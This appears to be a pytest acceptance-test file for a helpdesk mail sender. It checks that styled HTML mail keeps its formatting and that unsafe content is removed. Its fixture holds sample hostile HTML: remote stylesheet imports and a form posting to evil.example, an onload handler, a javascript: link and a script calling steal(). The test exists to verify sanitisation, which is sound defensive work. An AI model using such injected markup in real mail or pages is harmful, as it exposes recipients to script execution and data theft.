"""S11: the user styles the mail: typeface, weight, slant, colour, highlights, lists, links."""

from __future__ import annotations

import base64
import re

import pytest

from tests.acceptance.conftest import Desk

ANNAS = "anna@customer.example"
PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
STYLED = f"""
<html><head><style>
  @import url(http://evil.example/all.css);
  .serif {{ font-family: Georgia, serif; font-weight: bold; }}
  .high {{ background: #ffee00 }}
  li {{ color: #cc0000 }}
  td, th {{ border: 1px solid #999; padding: 4px }}
</style><link rel="stylesheet" href="http://evil.example/more.css"></head>
<body style="font-family: Verdana" onload="steal()">
<p class="serif">Bold Georgia</p>
<p><b>bold</b> <i>slanted</i> <u>under</u> <s>struck</s> <span style="color:#0044cc">blue</span>
<span class="high">yellow</span> <mark>marked</mark>
<font face="Courier New" size="5">big</font></p>
<ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol>
<table><tr><th>a</th><td>1</td></tr></table>
<p><a href="https://kolibri.example/help?a=1&amp;b=2">help</a>
<a href="javascript:steal()">trap</a></p>
<img alt="pixel" src="data:image/png;base64,{base64.b64encode(PIXEL).decode()}">
<script>steal()</script><form action="http://evil.example"><input name="x"></form>
</body></html>
"""


@pytest.fixture
def received(bare_desk: Desk) -> tuple[str, str, list[tuple[str, str, bytes]]]:
    """HTML, plain text and images of the styled mail, as they came out at the far end."""
    bare_desk.folder.use_shipped_rules("entities")
    bare_desk.k.records["incident"].insert(title="Styled").mail(to=ANNAS, html=STYLED)
    bare_desk.healthy_poll()
    mail = bare_desk.answer_to(ANNAS).mail
    html, text = mail.get_body(("html",)), mail.get_body(("plain",))
    assert html is not None
    assert text is not None
    images = [
        (part.get_content_type(), str(part["Content-ID"]), bytes(part.get_payload(decode=True)))
        for part in mail.walk()
        if part.get_content_maintype() == "image"
    ]
    return html.get_content(), text.get_content(), images


def style_of(html: str, words: str) -> str:
    """The style of the innermost element around these words."""
    found = re.search(rf'<\w+ style="([^"]*)">{re.escape(words)}<', html)
    assert found, (words, html)
    return re.sub(r"\s*([:;,])\s*", r"\1", found[1])


def test_typeface_weight_slant_colour_and_highlight_stand_in_each_element(
    received: tuple[str, str, object],
) -> None:
    html, _, _ = received
    assert style_of(html, "Bold Georgia") == "font-family:Georgia,serif;font-weight:bold"
    assert style_of(html, "blue") == "color:#0044cc"
    assert style_of(html, "yellow") == "background-color:#ffee00"
    assert style_of(html, "marked") == "background-color:#ffff00;color:#000000"
    assert "<b>bold</b> <i>slanted</i> <u>under</u> <s>struck</s>" in html
    assert '<font face="Courier New" size="5">big</font>' in html
    assert re.search(r'<div style="font-family: ?Verdana">', html), "the body's own typeface"


def test_lists_tables_and_links_stay(received: tuple[str, str, object]) -> None:
    html, text, _ = received
    assert style_of(html, "one") == style_of(html, "three") == "color:#cc0000"
    assert '<ol start="3">' in html
    assert "border:1px solid #999;padding:4px" in style_of(html, "1")
    assert 'href="https://kolibri.example/help?a=1&amp;b=2"' in html
    assert "* one" in text
    assert "3. three" in text or "1. three" in text


def test_a_pasted_image_comes_along_as_a_part(
    received: tuple[str, str, list[tuple[str, str, bytes]]],
) -> None:
    html, _, images = received
    ((kind, name, content),) = images
    assert (kind, content) == ("image/png", PIXEL)
    assert f'src="cid:{name[1:-1]}"' in html
    assert "data:" not in html


def test_nothing_acts_and_nothing_is_loaded(received: tuple[str, str, object]) -> None:
    html, text, _ = received
    for trap in ("<style", "<link", "script", "onload", "evil.example", "<form", "class="):
        assert trap not in html, trap
    assert "steal" not in html + text
